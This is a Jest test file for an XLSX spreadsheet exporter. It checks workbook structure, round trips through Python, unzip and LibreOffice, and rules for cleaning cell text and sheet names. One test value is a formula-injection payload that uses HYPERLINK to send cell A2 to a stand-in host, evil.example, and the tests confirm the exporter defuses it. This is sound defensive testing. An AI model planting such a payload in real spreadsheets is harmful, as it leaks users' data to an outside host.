import { spawnSync } from 'child_process'
import * as fs from 'fs'
import * as os from 'os'
import * as path from 'path'
import { buildXlsx, cellText, columnName, sheetNames, type Sheet } from '../../server/export/xlsx'

const INJECTION = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'

const sheets: Sheet[] = [
  {
    name: '走访记录',
    columns: [{ header: '企业名称', width: 30 }, { header: '走访日期', width: 14 }, { header: '问题数' }, { header: '已解决', width: 8 }, { header: '备注', width: 40 }],
    rows: [
      ['杭州某某科技有限公司', '2024-05-06', 3, true, INJECTION],
      ['A&B <公司> "引号"', null, 0, false, undefined],
      ['上海\u0001控制\u0007字符', '', -12.5, null, '+1 又一条'],
      ['@SUM(A1)', '-5', 1234567.89, undefined, '\t以 Tab 开头'],
      [],
      ['第一行\n第二行', '_x0041_ 字面', 1e-7, true, '  前后空格  '],
    ],
  },
  {
    name: '问题/台账[2024]:*?',
    columns: [{ header: '编号', width: 10 }, { header: '标题', width: 50 }],
    rows: [
      [1, '道路积水 🚧'],
      [2, '\r回车开头'],
      [3, null, '多出的一列'],
    ],
  },
]

/** What each written cell should read back as, by reference; absent references are empty cells. */
const expected: Record<string, Record<string, string | number>>[] = [
  {
    '1': { A: '企业名称', B: '走访日期', C: '问题数', D: '已解决', E: '备注' },
    '2': { A: '杭州某某科技有限公司', B: '2024-05-06', C: 3, D: '是', E: `'${INJECTION}` },
    '3': { A: 'A&B <公司> "引号"', C: 0, D: '否' },
    '4': { A: '上海控制字符', C: -12.5, E: "'+1 又一条" },
    '5': { A: "'@SUM(A1)", B: "'-5", C: 1234567.89, E: "'\t以 Tab 开头" },
    '7': { A: '第一行\n第二行', B: '_x005F_x0041_ 字面', C: 1e-7, D: '是', E: '  前后空格  ' },
  },
  {
    '1': { A: '编号', B: '标题' },
    '2': { A: 1, B: '道路积水 🚧' },
    '3': { A: 2, B: "'\n回车开头" },
    '4': { A: 3, C: '多出的一列' },
  },
]

// Reads the workbook back with nothing but the Python standard library.
const READER = String.raw`
import sys, json, zipfile, re
import xml.etree.ElementTree as ET
M = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
R = '{http://schemas.openxmlformats.org/officeDocument/2006/relationships}'
P = '{http://schemas.openxmlformats.org/package/2006/relationships}'
z = zipfile.ZipFile(sys.argv[1])
out = {'bad': z.testzip(), 'names': z.namelist()}
parts = {n: ET.fromstring(z.read(n)) for n in z.namelist()}  # every part must parse
ct = parts['[Content_Types].xml']
out['overrides'] = sorted(o.get('PartName') for o in ct if o.tag.endswith('Override'))
rels = {r.get('Id'): r.get('Target') for r in parts['xl/_rels/workbook.xml.rels'].iter(P + 'Relationship')}
root = {r.get('Target') for r in parts['_rels/.rels'].iter(P + 'Relationship')}
out['rootTargets'] = sorted(root)
styles = parts['xl/styles.xml']
fonts = styles.find(M + 'fonts').findall(M + 'font')
xfs = styles.find(M + 'cellXfs').findall(M + 'xf')
def bold(s):
    return fonts[int(xfs[int(s)].get('fontId'))].find(M + 'b') is not None
out['sheets'] = []
for s in parts['xl/workbook.xml'].iter(M + 'sheet'):
    ws = parts['xl/' + rels[s.get(R + 'id')]]
    cells = {}
    boldRefs = []
    for c in ws.iter(M + 'c'):
        ref, t = c.get('r'), c.get('t')
        if t == 'inlineStr':
            v = ''.join(x.text or '' for x in c.find(M + 'is').iter(M + 't'))
        elif t is None or t == 'n':
            v = float(c.find(M + 'v').text)
        else:
            v = ['unexpected type', t]
        cells[ref] = v
        if c.get('s') is not None and bold(c.get('s')):
            boldRefs.append(ref)
    pane = ws.find(M + 'sheetViews/' + M + 'sheetView/' + M + 'pane')
    cols = {c.get('min'): float(c.get('width')) for c in ws.iter(M + 'col')}
    out['sheets'].append({'name': s.get('name'), 'cells': cells, 'bold': boldRefs, 'pane': dict(pane.attrib), 'cols': cols,
                          'dimension': ws.find(M + 'dimension').get('ref')})
print(json.dumps(out))
`

function flatten(rows: Record<string, Record<string, string | number>>): Record<string, string | number> {
  const cells: Record<string, string | number> = {}
  for (const [r, cols] of Object.entries(rows)) for (const [c, v] of Object.entries(cols)) cells[`${c}${r}`] = v
  return cells
}

/** Minimal RFC 4180 reader for LibreOffice's CSV output. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(field)
      field = ''
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++
      row.push(field)
      rows.push(row)
      row = []
      field = ''
    } else field += ch
  }
  if (field || row.length) {
    row.push(field)
    rows.push(row)
  }
  return rows
}

describe('buildXlsx', () => {
  let dir: string
  let file: string
  beforeAll(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'xlsx-test-'))
    file = path.join(dir, '周报导出.xlsx')
    fs.writeFileSync(file, buildXlsx(sheets))
  })
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }))

  test('python (zipfile + xml.etree) reads back the workbook exactly', () => {
    const run = spawnSync('python3', ['-c', READER, file], { encoding: 'utf8' })
    expect(run.stderr).toBe('')
    const book = JSON.parse(run.stdout)
    expect(book.bad).toBeNull()
    expect(book.names).toEqual([
      '[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml',
      'xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml',
    ])
    expect(book.overrides).toEqual(['/xl/styles.xml', '/xl/workbook.xml', '/xl/worksheets/sheet1.xml', '/xl/worksheets/sheet2.xml'])
    expect(book.rootTargets).toEqual(['xl/workbook.xml'])
    expect(book.sheets.map((s: { name: string }) => s.name)).toEqual(['走访记录', '问题_台账_2024____'])

    book.sheets.forEach((s: { cells: Record<string, unknown>; bold: string[]; pane: Record<string, string>; cols: Record<string, number>; dimension: string }, i: number) => {
      expect(s.cells).toEqual(flatten(expected[i]))
      expect(s.bold.sort()).toEqual(Object.keys(expected[i]['1']).map((c) => `${c}1`).sort())
      expect(s.pane).toMatchObject({ ySplit: '1', topLeftCell: 'A2', state: 'frozen' })
    })
    expect(book.sheets[0].cols).toEqual({ '1': 30, '2': 14, '4': 8, '5': 40 })
    expect(book.sheets[0].dimension).toBe('A1:E7')
    expect(book.sheets[1].dimension).toBe('A1:C4')
  })

  test('the archive is also accepted by unzip, when present', () => {
    if (spawnSync('which', ['unzip']).status === 0) {
      const run = spawnSync('unzip', ['-tq', file], { encoding: 'utf8' })
      expect(run.status).toBe(0)
    }
  })

  test('LibreOffice, when installed, converts the first sheet to the same CSV', () => {
    if (spawnSync('which', ['soffice']).status === 0) {
      const outDir = path.join(dir, 'csv')
      const run = spawnSync('soffice', ['--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', outDir, file], {
        encoding: 'utf8',
        timeout: 120_000,
      })
      expect(run.status).toBe(0)
      const csv = parseCsv(fs.readFileSync(path.join(outDir, '周报导出.csv'), 'utf8').replace(/^\uFEFF/, ''))
      const rows = expected[0]
      const width = 5
      const want: string[][] = []
      for (let r = 1; r <= 7; r++) {
        want.push(Array.from({ length: width }, (_, c) => {
          const v = rows[String(r)]?.[columnName(c)]
          return v === undefined ? '' : String(v)
        }))
      }
      const got = csv.map((row) => [...row, ...Array(width).fill('')].slice(0, width))
      // Numbers go through LibreOffice's "General" format; compare them numerically.
      want.forEach((row, r) => row.forEach((v, c) => {
        if (typeof rows[String(r + 1)]?.[columnName(c)] === 'number') expect(Number(got[r][c])).toBeCloseTo(Number(v), 12)
        else expect(got[r][c]).toBe(v)
      }))
    }
  })

  test('refuses an empty workbook', () => {
    expect(() => buildXlsx([])).toThrow(/at least one sheet/)
  })
})

describe('cell text and sheet names', () => {
  test('formula-looking strings are defused, others untouched', () => {
    for (const s of ['=1+1', '+1', '-1', '@x', '\tx', '\rx']) expect(cellText(s).startsWith("'")).toBe(true)
    for (const s of ['1+1', '企业', "'already", ' =x', '']) expect(cellText(s)).toBe(s)
    expect(cellText('\u0000=1')).toBe("'=1") // stripping a control character cannot smuggle a formula through
  })

  test('control characters and lone surrogates are stripped, pairs survive, length is capped', () => {
    expect(cellText('a\u0000b\u001Fc\u007Fd\uFFFEe\uD800f')).toBe('abcdef')
    expect(cellText('emoji 😀')).toBe('emoji 😀')
    expect(cellText('x'.repeat(40000))).toHaveLength(32767)
    expect(cellText('x'.repeat(32766) + '😀')).toHaveLength(32766)
  })

  test('column names', () => {
    expect([0, 25, 26, 51, 52, 701, 702, 16383].map(columnName)).toEqual(['A', 'Z', 'AA', 'AZ', 'BA', 'ZZ', 'AAA', 'XFD'])
  })

  test('sheet names are sanitized, capped at 31 and unique ignoring case', () => {
    const long = '这是一个非常非常长的工作表名称用于测试截断功能是否正常工作以及唯一性'
    const names = sheetNames(['a/b\\c[d]e:f*g?h', '', "'引号'", 'Data', 'data', 'DATA', long, long, 'History', '\t'])
    expect(names.slice(0, 6)).toEqual(['a_b_c_d_e_f_g_h', 'Sheet2', '引号', 'Data', 'data (2)', 'DATA (3)'])
    expect(names[6]).toBe(long.slice(0, 31))
    expect(names[7]).toBe(long.slice(0, 27) + ' (2)')
    expect(names[8]).toBe('History (2)')
    expect(names[9]).toBe('Sheet10')
    for (const n of names) expect(n.length).toBeLessThanOrEqual(31)
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length)
  })
})
